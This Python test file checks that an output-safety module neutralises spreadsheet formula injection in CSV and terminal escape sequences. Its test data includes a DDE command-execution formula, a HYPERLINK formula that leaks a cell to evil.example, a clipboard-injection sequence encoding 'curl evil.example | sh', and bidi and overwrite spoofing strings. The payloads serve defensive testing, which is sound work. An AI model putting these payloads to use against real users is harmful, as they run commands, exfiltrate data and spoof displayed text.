"""Untrusted text is neutralised on output: no spreadsheet formula in CSV, no control sequence on a terminal."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest

from monitor.output_safety import FORMULA_STARTS, csv_row, terminal_row, terminal_text

FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "\uff201", "-", "=",
            "+351 912 345 678"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_quoted_through_a_real_csv_round_trip(cell: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["model", cell, 7]))
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["model", "'" + cell, "7"]
    assert row[1][0] not in FORMULA_STARTS


@pytest.mark.parametrize("value", ["support-bot", "2026.11.1", "a=b", "x-1", "", " =1", "'=already", 0, -12, 3.5,
                                   None, True])
def test_other_cells_pass_unchanged(value: object) -> None:
    assert csv_row([value]) == [value]


ATTACKS = {
    "csi-clear-screen": "bot\x1b[2J\x1b[H",
    "csi-colour": "\x1b[31mCRITICAL\x1b[0m",
    "osc-title": "bot\x1b]0;owned\x07",
    "osc-52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc-8-hyperlink": "\x1b]8;;https://evil.example\x1b\\support-bot\x1b]8;;\x1b\\",
    "c1-csi": "bot\x9b2J",
    "c1-osc": "bot\x9d0;owned\x9c",
    "backspace-overwrite": "evil\b\b\b\bgood",
    "carriage-return-overwrite": "tenant-evil\rtenant-good",
    "bidi-override": "bot\u202egnp.exe",
    "bidi-isolate": "\u2066acme\u2069\u2067x\u2069",
    "nul-and-del": "a\x00b\x7fc",
    "line-separator": "a\u2028b\u2029c",
    "newline-in-cell": "line1\nline2\tcol",
}


def _unsafe(text: str) -> list[str]:
    return [ch for ch in text if unicodedata.category(ch) == "Cc"
            or unicodedata.bidirectional(ch) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
            or ch in "\u200e\u200f\u061c\u2028\u2029"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_control_sequences_are_shown_not_executed(attack: str) -> None:
    text = ATTACKS[attack]
    shown = terminal_text(text)
    assert _unsafe(text) and not _unsafe(shown)
    assert shown.isprintable()
    # Nothing is lost: every character is still there, as itself or as a visible escape.
    assert re.sub(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4})", "", shown) == "".join(c for c in text if not _unsafe(c))
    assert all((f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}") in shown for c in _unsafe(text))


def test_newlines_can_be_kept_for_free_text() -> None:
    assert terminal_text("one\ntwo\x1b[2J", keep_newlines=True) == "one\ntwo\\x1b[2J"
    assert terminal_row(["m\x1b", 3, None]) == ["m\\x1b", "3", "None"]


@pytest.mark.parametrize("text", ["support-bot", "café ☕ 模型", "emoji 👩‍💻 zwj", "tab-free ascii 123"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert terminal_text(text) == text
